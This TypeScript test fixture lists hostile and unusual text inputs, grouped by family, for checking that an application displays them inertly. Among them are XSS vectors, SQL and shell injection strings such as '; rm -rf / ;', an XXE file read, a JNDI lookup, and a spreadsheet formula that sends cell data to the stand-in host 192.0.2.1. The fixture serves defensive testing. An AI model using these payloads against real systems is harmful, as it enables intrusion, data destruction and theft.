/**
 * What people with bad intentions, broken keyboards and other alphabets put into text fields. By family, so that a failure
 * says what kind of mistake it is; whatever does not show is written as an escape, so that this file reads as it is.
 * None of these may run, none may be changed: a page shows each as the text that it is.
 */
const FAMILIES: Record<string, readonly string[]> = {
  // Markup with a script in it, for whoever writes text into HTML.
  'script elements': [
    '<script>alert(1)</script>',
    '<SCRIPT>alert(1)</SCRIPT>',
    '<script src="//192.0.2.1/x.js"></script>',
    '<script/src=data:,alert(1)></script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '</script><script>alert(1)</script>',
    '</title><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>',
    '</style><script>alert(1)</script>',
    '--><script>alert(1)</script>',
    ']]><script>alert(1)</script>',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '<script\u000calert(1)</script>',
    '<script type="module">import "//192.0.2.1/x.js"</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '\u2028</script><script>alert(1)</script>',
  ],
  // Elements that run something by being there.
  'event handlers': [
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="window.ran=1">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<img src=x:alert(alt) onerror=eval(src) alt=1>',
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)//',
    '<svg><script>alert&#40;1&#41;</script>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<body onload=alert(1)>',
    '<video><source onerror="alert(1)">',
    '<audio src=x onerror=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<object data="data:text/html,<script>alert(1)</script>">',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<iframe src="javascript:alert(1)">',
    '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>',
    '<form><button formaction="javascript:alert(1)">x',
    '<x onclick=alert(1)>bấm vào đây</x>',
    '<style>@import "//192.0.2.1/x.css";</style>',
    '<link rel=stylesheet href=//192.0.2.1/x.css>',
    '<meta http-equiv="refresh" content="0;url=//192.0.2.1/">',
    '<base href="//192.0.2.1/">',
    '<p style="position:fixed;inset:0;background:red">che hết</p>',
  ],
  // For whoever writes text into an attribute, a script or a style.
  'breaking out': [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '` onmouseover=alert(1)',
    '" autofocus onfocus="alert(1)" x="',
    "'-alert(1)-'",
    '"-alert(1)-"',
    "\\';alert(1);//",
    '\\"};alert(1);//',
    '${alert(1)}',
    '`${alert(1)}`',
    ');alert(1)//',
    '*/alert(1)/*',
    'expression(alert(1))',
    'url(javascript:alert(1))',
    '</svg><svg onload=alert(1)>',
    '<!--',
    '-->',
    '<![CDATA[',
    '<?xml version="1.0"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '&amp;&lt;&gt;&quot;&#39;',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<',
    '>',
    '&',
    '"',
    "'",
    '\\',
  ],
  // For whoever makes links of what looks like one.
  addresses: [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    ' javascript:alert(1)',
    'javascript://%0aalert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'vbscript:msgbox(1)',
    'https://192.0.2.1/?q="><script>alert(1)</script>',
    '//192.0.2.1/x',
    '[bấm](javascript:alert(1))',
    '![x](https://192.0.2.1/x.png)',
    'tel:115;phone-context=javascript:alert(1)',
    'sms:115?body=<script>alert(1)</script>',
    'file:///etc/passwd',
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '..\\..\\windows\\win.ini',
  ],
  // For whoever builds questions to a database, a shell, a directory or a mail by hand.
  commands: [
    "'; DROP TABLE incident_event; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(10) --",
    "' UNION SELECT password FROM account --",
    "\\'; --",
    "$$; DROP TABLE account; $$",
    "'||(SELECT version())||'",
    "E'\\x27'",
    '%27%20OR%201=1',
    '$(reboot)',
    '`reboot`',
    '; rm -rf / ;',
    '| cat /etc/passwd',
    '& ping 192.0.2.1 &',
    '*)(uid=*))(|(uid=*',
    "' or count(//user)=1 or '",
    '{"$gt": ""}',
    '{"__proto__": {"admin": true}}',
    '__proto__',
    'constructor.prototype',
    'Bcc: all@example.org\r\nSubject: x',
    'HTTP/1.1 200 OK\r\nSet-Cookie: a=b',
  ],
  // For whoever lets a template, a logger or a message format read what people write.
  templates: [
    '{{7*7}}',
    '{{constructor.constructor("alert(1)")()}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{% raw %}',
    '${jndi:ldap://192.0.2.1/a}',
    '${env:PATH}',
    '%{(#a=1)}',
    '@(7*7)',
    '{n}',
    '{0}',
    '{age}',
    '{seconds}',
    '{',
    '}',
    '{{',
    "it''s {0} '{1}'",
    '%s%s%s%s%n',
    '%1$s %2$d',
    '%d%%',
    '%00',
    '\\0',
    '\\n',
    '\\x00',
    '$1$&',
    '\\1',
  ],
  // Read as formulas where a table is opened in a spreadsheet.
  formulas: [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"bấm")',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '\t=1+1',
    '=1+1";=1+1',
    'a,b;c\td"e""f',
  ],
  // Text that changes the order, the width or the height of what stands beside it.
  'bidi and invisible': [
    '\u202egpj.exe\u202c',
    '\u202e đảo ngược không đóng',
    '\u202d\u202e\u202a\u202b',
    '\u2066\u2067\u2068 không đóng',
    '\u2069\u202c đóng thừa',
    '\u200f115\u200e',
    'مرحبا بالعالم 115',
    'שלום 115 עולם',
    '\u061c؟',
    'Lai\u200bChâu',
    'Lai\u200c\u200dChâu',
    '\ufeffđầu dòng',
    '\u2060\u2061\u2062\u2063',
    '\u00a0\u2003\u3000',
    '\u00ad\u00ad\u00ad',
    '\u034f\u115f\u3164\uffa0',
    '\u180e\u17b4\u17b5',
    '\u{e0001}\u{e0041}\u{e007f}',
    '\u2028dòng\u2029đoạn',
    '\u0085\u000b\u000c',
  ],
  'combining floods': [
    'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034da\u0368\u0352\u0300l\u0321\u0359g\u0316o\u032f',
    `a${'\u0301'.repeat(120)}`,
    `ở${'\u0309'.repeat(60)} ${'\u0338'.repeat(60)}`,
    `${'\u0e49'.repeat(80)}`,
    '\u0300 dấu không có chữ',
    `\u25cc${'\u20dd'.repeat(20)}`,
  ],
  // Long without a place to break.
  'long words': ['W'.repeat(300), 'ABCdef123'.repeat(30), 'ﷺ'.repeat(40), '𒐫'.repeat(40), '-'.repeat(200), '漢'.repeat(120)],
  // The same for the eye, not the same for a machine: nobody may make one of the other.
  'unicode twins': [
    'Mường Tè',
    'Mu\u031bo\u031b\u0300ng Te\u0300',
    'Ti\u1ebfng Vi\u1ec7t',
    'Tie\u0302\u0301ng Vie\u0323\u0302t',
    'Đ Ð Ɖ',
    'аdmin (а kirin)',
    'ａｄｍｉｎ',
    'ﬁ ﬂ ﬀ',
    '①②③ ½ ™ Å Å',
    'İıIi',
    'ẞßss',
    'Ǆǅǆ',
    '\u1112\u1161\u11ab 한',
    '“ngoặc” ‘kép’ «…»',
  ],
  emoji: [
    '🚑🏔️🌧️',
    '👨‍👩‍👧‍👦',
    '👩🏽‍⚕️🧑🏿‍🚒',
    '🇻🇳🇻',
    '🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}',
    '1️⃣1️⃣5️⃣',
    '\ufe0f\u200d\ufe0f',
    '\u{1f3fb}\u{1f3ff}',
    '\u{10ffff}\u{f0000}',
    '\ufffe\uffff\ufdd0',
  ],
  // Not the null character: that is left out on purpose (CleanText), as PostgreSQL cannot keep it.
  'control characters': [
    '\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008',
    '\u000e\u000f\u0010\u0011\u0012\u0013\u0014\u0015\u0016\u0017\u0018\u0019\u001a',
    '\u001b[31mđỏ\u001b[0m',
    '\u001b]0;tên cửa sổ\u0007',
    '\u001c\u001d\u001e\u001f',
    '\u007f\u0080\u0081\u009b31m\u009f',
    'trước\bsau',
    'một\thai',
    'một\nhai\n\nba',
    'một\r\nhai',
    'một\rhai',
    '  hai bên  ',
    ' ',
    '\n',
  ],
  // What a program takes for something else.
  'false friends': ['null', 'undefined', 'true', 'NaN', '-1', '1e309', '0x115', '[object Object]', '[]', '""', 'None', '115', '٣٤٥'],
};

export interface Hostile {
  family: string;
  text: string;
}

export const HOSTILE: readonly Hostile[] = Object.entries(FAMILIES).flatMap(([family, texts]) =>
  texts.map((text) => ({ family, text })),
);

const BETWEEN = ' ¦ ';

/** All of them in few texts, none longer than a field takes: as much is proved, in a tenth of the time. */
export function packed(most: number): string[] {
  const packs: string[] = [];
  let pack = '';
  for (const { text } of HOSTILE) {
    if (text.length > most) continue;
    if (pack && pack.length + BETWEEN.length + text.length > most) {
      packs.push(pack);
      pack = '';
    }
    pack = pack ? pack + BETWEEN + text : text;
  }
  return pack ? [...packs, pack] : packs;
}

/** Those that fit whole into a short field. */
export function shortOnes(most: number): string[] {
  return HOSTILE.map(({ text }) => text).filter((text) => text.length <= most);
}
